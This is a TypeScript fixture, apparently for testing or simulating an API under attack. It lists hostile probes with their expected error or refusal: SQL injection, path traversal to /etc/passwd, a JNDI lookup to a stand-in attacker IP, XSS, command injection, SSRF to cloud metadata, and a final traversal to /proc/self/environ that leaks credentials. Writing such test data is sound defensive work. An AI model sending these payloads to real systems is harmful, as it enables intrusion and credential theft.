// What an attacker types into an API, and what the function answers: refused, failed with an error, or gone through.
import type { Failure } from '../records/application-lines.ts';

export interface Payload {
  /** In place of the id in a path, or after the question mark. */
  readonly at: 'path' | 'query';
  readonly text: string;
  readonly answer: { readonly kind: 'refused' } | { readonly kind: 'failed'; readonly failure: Failure };
}

const refused = { kind: 'refused' } as const;
const failed = (name: string, message: string, frame: string): Payload['answer'] => ({
  kind: 'failed',
  failure: { name, message, stack: [frame, 'Runtime.handler (/var/task/index.js:41:18)'] },
});
const query = '/var/task/node_modules/pg/lib/client.js:535:17';
const files = 'async open (node:internal/fs/promises:641:25)';

export const PROBES: readonly Payload[] = [
  { at: 'path', text: "1042'", answer: failed('error', "unterminated quoted string at or near \"'1042''\"", query) },
  { at: 'path', text: '1042%27%20OR%20%271%27=%271', answer: failed('error', 'syntax error at or near "OR"', query) },
  {
    at: 'query',
    text: 'sort=price%20desc;select%20pg_sleep(5)--',
    answer: failed('error', 'cannot insert multiple commands into a prepared statement', query),
  },
  {
    at: 'query',
    text: 'q=%27%20UNION%20SELECT%20NULL,NULL,NULL--',
    answer: failed('error', 'each UNION query must have the same number of columns', query),
  },
  {
    at: 'query',
    text: 'q=%27%20AND%201=(SELECT%20COUNT(*)%20FROM%20information_schema.tables)--',
    answer: failed('error', 'argument of AND must be type boolean, not type integer', query),
  },
  {
    at: 'path',
    text: '..%2f..%2f..%2fetc%2fpasswd',
    answer: failed('Error', "ENOENT: no such file or directory, open '/var/task/images/etc/passwd'", files),
  },
  {
    at: 'path',
    text: '....//....//etc/passwd',
    answer: failed('Error', "ENOENT: no such file or directory, open '/var/task/images/..../etc/passwd'", files),
  },
  { at: 'query', text: 'q={{7*7}}', answer: refused },
  { at: 'query', text: 'q=%24%7Bjndi:ldap://203.0.113.77:1389/a%7D', answer: refused },
  { at: 'query', text: 'q=%3Cscript%3Ealert(1)%3C/script%3E', answer: refused },
  { at: 'query', text: 'page=1;id', answer: failed('Error', 'invalid input syntax for type integer: "1;id"', query) },
  { at: 'query', text: 'page[$gt]=', answer: failed('TypeError', 'page.trim is not a function', 'numberOf (/var/task/request.js:31:22)') },
  { at: 'query', text: 'callback=http://169.254.169.254/latest/meta-data/iam/', answer: refused },
  { at: 'path', text: '1042%00.jpg', answer: failed('TypeError', "The argument 'path' must be a string without null bytes.", files) },
  { at: 'query', text: 'q=a%27%7C%7C(select%20version())%7C%7C%27', answer: refused },
];

/** What goes through at last: the environment of the process, its credentials included. */
export const BREAKTHROUGH = { at: 'path', text: '..%2f..%2f..%2f..%2fproc%2fself%2fenviron' } as const;
